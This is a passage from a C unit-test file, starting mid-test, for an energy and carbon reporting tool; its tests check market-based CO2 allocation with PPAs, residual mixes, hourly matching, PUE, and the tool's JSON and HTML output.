	ck_assert_double_eq_tol(open, a_unc + b_unc + r_unc, 1e-9);
	double a_late = 4 * a_unc / open, b_late = 4 * b_unc / open, r_late = 4 * r_unc / open;
	ck_assert_double_eq_tol(cells[0].uncovered_kwh, a_unc - a_late, 1e-9);
	ck_assert_double_eq_tol(cells[0].co2_g, a_late * 10 + (a_unc - a_late) * 250, 1e-9);
	ck_assert_double_eq_tol(cells[1].co2_g, b_late * 10 + (b_unc - b_late) * 250, 1e-9);
	ck_assert_double_eq_tol(cells[2].co2_g, 0, 1e-9);
	ck_assert_double_eq_tol(cells[2].covered_cfe_kwh, 30, 1e-9);
	ck_assert_double_eq_tol(cells[3].co2_g, r_late * 10 + (r_unc - r_late) * 250, 1e-9);
	jp_instruments_free(&ins);

	/* Without a supplier rate the residual mix that matches applies, else the first. */
	path = write_tmp("ins2.yaml",
		"residual_mix_grams_per_kwh:\n"
		"  - {match: {cluster: edge-7}, grams_per_kwh: 500}\n"
		"  - {grams_per_kwh: 380}\n");
	ck_assert_msg(jp_instruments_load(path, &ins, why, sizeof(why)) == 0, "%s", why);
	jp_market_allocate(&ins, cells, 4, from, to);
	ck_assert_double_eq_tol(cells[0].co2_g, 100 * 380.0, 1e-9);
	ck_assert_double_eq_tol(cells[2].co2_g, 30 * 500.0, 1e-9);
	jp_instruments_free(&ins);
	rm_tmp();
}
END_TEST

/* With one intensity (0.1 g/J), every row shows it, (system) and (idle) too, though the
 * node's zone series and its CO2 counter were extrapolated apart (1 %): what the rows leave
 * is taken from the converted energy, which the store extrapolates as the CO2. */
START_TEST(test_build_rest_one_intensity)
{
	struct fake fk = {.from_ms = 10 * DAY, .conv_skew = 1};
	struct jp_report_source src = fake_source(&fk, 0);
	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 15 * DAY, .by = JP_BY_NAMESPACE};
	struct jp_report r;
	char why[512];
	ck_assert_msg(jp_report_build(&src, &p, &r, why, sizeof(why)) == 0, "%s", why);
	ck_assert_uint_eq(r.nrows, 4);
	for (size_t i = 0; i < r.nrows; i++)
		ck_assert_msg(fabs(r.rows[i].co2_g / r.rows[i].energy_j - 0.1) < 1e-12, "%s: %.17g g/J", r.rows[i].key,
			      r.rows[i].co2_g / r.rows[i].energy_j);
	ck_assert_double_eq_tol(r.total.energy_j, 5050, 1e-9);
	ck_assert_double_eq_tol(r.total.co2_g, 505, 1e-9);
	jp_report_free(&r);
	/* Rows that are nodes take the converted energy too. */
	p.by = JP_BY_NODE;
	ck_assert_msg(jp_report_build(&src, &p, &r, why, sizeof(why)) == 0, "%s", why);
	ck_assert_double_eq_tol(r.total.co2_g / r.total.energy_j, 0.1, 1e-12);
	jp_report_free(&r);
}
END_TEST

/* Hourly matching: a PPA whose profile supplies twice each hour's use in the first 12 hours
 * of the five days and nothing after. By period it would cover 1000 J of the 5000; hour by
 * hour it covers only what those hours used, 12 × 1000/24 = 500 J, and 500 J are excess.
 * Team a: 12 × 300/24 = 150 J covered of 1500; the rest takes the residual 380 g/kWh; its
 * cfe_ratio = (150 J covered by a 0 g instrument + 1350 J × the grid's 0.25) / 1500 = 0.325. */
START_TEST(test_build_market_hourly)
{
	struct fake fk = {.from_ms = 10 * DAY};
	struct jp_report_source src = fake_source(&fk, 50);   /* 120 hours in chunks of 50 */
	char csv[8192];
	size_t o = 0;
	for (int h = 0; h < 120; h++)
		o += (size_t)snprintf(csv + o, sizeof(csv) - o, "1970-01-%02dT%02d:00:00Z,%.17g\n", 11 + h / 24, h % 24,
				      h < 12 ? 2000 / 24.0 / 3.6e6 : 0);
	write_tmp("hours.csv", csv);
	const char *path = write_tmp("ins4.yaml", "residual_mix_grams_per_kwh: 380\n"
				     "instruments:\n  - {name: ppa, kind: ppa, grams_per_kwh: 0, profile: hours.csv}\n");
	struct jp_instruments ins;
	char why[512];
	ck_assert_msg(jp_instruments_load(path, &ins, why, sizeof(why)) == 0, "%s", why);
	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 15 * DAY, .by = JP_BY_NAMESPACE, .instruments = &ins,
				     .hourly = 1};
	struct jp_report r;
	ck_assert_msg(jp_report_build(&src, &p, &r, why, sizeof(why)) == 0, "%s", why);
	ck_assert_str_eq(r.rows[0].key, "a");
	ck_assert_double_eq_tol(ins.v[0].available_kwh, 1000 / 3.6e6, 1e-15);
	ck_assert_double_eq_tol(ins.v[0].used_kwh, 500 / 3.6e6, 1e-15);
	ck_assert_double_eq_tol(r.rows[0].matched_kwh, 150 / 3.6e6, 1e-15);
	ck_assert_double_eq_tol(r.rows[0].co2_market_g, 1350 / 3.6e6 * 380, 1e-12);
	ck_assert_double_eq_tol(r.rows[0].cfe_ratio, (150 + 1350 * 0.25) / 1500, 1e-9);
	ck_assert_double_eq_tol(r.total.co2_market_g, 4500 / 3.6e6 * 380, 1e-12);
	ck_assert_double_eq_tol(r.total.cfe_ratio, (500 + 4500 * 0.25) / 5000, 1e-9);
	/* Per day: the first day's hours took the PPA (4000/5 - 500 J at 380 g/kWh); the others
	 * the residual alone; the days add up to the total. */
	ck_assert_double_eq_tol(r.daily_market_g[0], 500 / 3.6e6 * 380, 1e-12);
	double days = 0;
	for (size_t d = 0; d < r.ndays; d++) {
		days += r.daily_market_g[d];
		if (d)
			ck_assert_double_eq_tol(r.daily_market_g[d], 1000 / 3.6e6 * 380, 1e-12);
	}
	ck_assert_double_eq_tol(days, r.total.co2_market_g, 1e-12);
	jp_report_free(&r);
	/* The same by period: 1000 J covered, shared by the uncovered energy (a: 300 J). */
	p.hourly = 0;
	ck_assert_msg(jp_report_build(&src, &p, &r, why, sizeof(why)) == 0, "%s", why);
	ck_assert_double_eq_tol(r.rows[0].matched_kwh, 300 / 3.6e6, 1e-15);
	jp_report_free(&r);
	jp_instruments_free(&ins);
	rm_tmp();
}
END_TEST

/* Through the report, on the stand-in source: one PPA on the whole fleet of 1000 J in the
 * five days covers the rows by their energy (a 1500 J, b 1000 J, the rest 2500 J of the
 * nodes' 5000 J: 300, 200 and 500 J); the rest goes to (system) and (idle) by their energy
 * (250 and 2250 J); the uncovered energy takes the residual 380 g/kWh. */
START_TEST(test_build_market)
{
	struct fake fk = {.from_ms = 10 * DAY};
	struct jp_report_source src = fake_source(&fk, 0);
	char yaml[512];
	snprintf(yaml, sizeof(yaml),
		 "residual_mix_grams_per_kwh: 380\n"
		 "residual_mix_source: \"AIB <2025> & co\"\n"
		 "instruments:\n"
		 "  - {name: ppa, kind: ppa, grams_per_kwh: 0, volume_kwh: %.17g, from: 1970-01-11, to: 1970-01-16}\n",
		 1000 / 3.6e6);
	const char *path = write_tmp("ins3.yaml", yaml);
	struct jp_instruments ins;
	char why[512];
	ck_assert_msg(jp_instruments_load(path, &ins, why, sizeof(why)) == 0, "%s", why);
	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 15 * DAY, .by = JP_BY_NAMESPACE, .instruments = &ins};
	struct jp_report r;
	ck_assert_msg(jp_report_build(&src, &p, &r, why, sizeof(why)) == 0, "%s", why);
	ck_assert_uint_eq(r.nrows, 4);
	ck_assert_str_eq(r.rows[0].key, "a");
	ck_assert_double_eq_tol(r.rows[0].matched_kwh, 300 / 3.6e6, 1e-15);
	ck_assert_double_eq_tol(r.rows[0].co2_market_g, (1500 - 300) / 3.6e6 * 380, 1e-12);
	ck_assert_double_eq_tol(r.rows[1].co2_market_g, (1000 - 200) / 3.6e6 * 380, 1e-12);
	ck_assert_double_eq_tol(r.rows[2].co2_market_g, (2500 - 500) / 3.6e6 * 380 * 250 / 2500, 1e-12);
	ck_assert_double_eq_tol(r.rows[3].co2_market_g, (2500 - 500) / 3.6e6 * 380 * 2250 / 2500, 1e-12);
	ck_assert_double_eq_tol(r.total.co2_market_g, (5000 - 1000) / 3.6e6 * 380, 1e-12);
	ck_assert_double_eq_tol(r.total.matched_kwh, 1000 / 3.6e6, 1e-15);
	ck_assert_double_eq_tol(ins.v[0].used_kwh, 1000 / 3.6e6, 1e-15);
	/* The JSON carries both methods and the instrument's use. */
	char *json = NULL;
	size_t jl = 0;
	FILE *f = open_memstream(&json, &jl);
	ck_assert_int_eq(jp_report_render(&r, JP_FMT_JSON, 8, f), 0);
	fclose(f);
	struct json_object *o = json_tokener_parse(json);
	ck_assert_ptr_nonnull(o);
	struct json_object *t = json_object_object_get(o, "total");
	ck_assert_double_eq_tol(json_object_get_double(json_object_object_get(t, "co2_location_grams")), r.total.co2_g, 1e-12);
	ck_assert_double_eq_tol(json_object_get_double(json_object_object_get(t, "co2_market_grams")), r.total.co2_market_g,
				1e-12);
	struct json_object *m = json_object_object_get(json_object_object_get(o, "method"), "market");
	struct json_object *i0 = json_object_array_get_idx(json_object_object_get(m, "instruments"), 0);
	ck_assert_double_eq_tol(json_object_get_double(json_object_object_get(i0, "excess_kwh")), 0, 1e-15);
	ck_assert_double_eq(json_object_get_double(json_object_object_get(m, "residual_grams_per_kwh")), 380);
	ck_assert_str_eq(json_object_get_string(json_object_object_get(m, "residual_source")), "AIB <2025> & co");
	json_object_put(o);
	free(json);
	/* With a PUE the bought electricity is the measured energy times it: 7500 J against
	 * the same 1000 J of the PPA. */
	jp_report_free(&r);
	ins.pue = 1.5;
	ck_assert_msg(jp_report_build(&src, &p, &r, why, sizeof(why)) == 0, "%s", why);
	ck_assert_double_eq_tol(r.total.co2_market_g, (7500 - 1000) / 3.6e6 * 380, 1e-12);
	ck_assert_double_eq_tol(r.rows[0].co2_market_g, (2250 - 300) / 3.6e6 * 380, 1e-12);
	ck_assert_double_eq_tol(r.total.matched_kwh, 1000 / 3.6e6, 1e-15);
	/* Period matching: each day at the period's market-based intensity, adding up. */
	for (size_t d = 0; d < r.ndays; d++)
		ck_assert_double_eq_tol(r.daily_market_g[d], r.total.co2_market_g / 5, 1e-12);
	/* The page states the method, the instruments, the residual mix and its source (escaped),
	 * and draws both methods for each of the five days. */
	char *html = render(&r, JP_FMT_HTML);
	ck_assert_ptr_nonnull(strstr(html, "<h2>Method</h2>"));
	ck_assert_ptr_nonnull(strstr(html, "<b>period</b>"));
	ck_assert_ptr_nonnull(strstr(html, "Source of the residual mix: AIB &lt;2025&gt; &amp; co."));
	ck_assert_ptr_nonnull(strstr(html, "<tr><td>ppa</td><td>ppa</td><td>0.0</td>"));
	ck_assert_ptr_nonnull(strstr(html, "Energy by intensity source: "));
	size_t ndays = 0, nbars = 0;
	for (const char *q = html; (q = strstr(q, "<g class=\"mday\"")); q++)
		ndays++;
	for (const char *q = html; (q = strstr(q, "market-based: ")); q++)
		nbars++;
	ck_assert_uint_eq(ndays, 5);
	ck_assert_uint_eq(nbars, 5);
	free(html);
	jp_report_free(&r);
	jp_instruments_free(&ins);
	rm_tmp();
}
END_TEST

int main(void)
{
	Suite *s = suite_create("report");
	TCase *tc = tcase_create("report");
	tcase_add_test(tc, test_parse_vector);
	tcase_add_test(tc, test_parse_matrix_scalar);
	tcase_add_test(tc, test_parse_errors);
	tcase_add_test(tc, test_times);
	tcase_add_test(tc, test_energy_expr);
	tcase_add_test(tc, test_build_rows);
	tcase_add_test(tc, test_build_partial);
	tcase_add_test(tc, test_build_errors);
	tcase_add_test(tc, test_render);
	tcase_add_test(tc, test_render_hostile);
	tcase_add_test(tc, test_build_without_node_series);
	tcase_add_test(tc, test_build_sci);
	tcase_add_test(tc, test_instruments_errors);
	tcase_add_test(tc, test_market_allocation);
	tcase_add_test(tc, test_build_market);
	tcase_add_test(tc, test_build_market_hourly);
	tcase_add_test(tc, test_build_rest_one_intensity);
	suite_add_tcase(s, tc);
	SRunner *sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	int failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? 1 : 0;
}
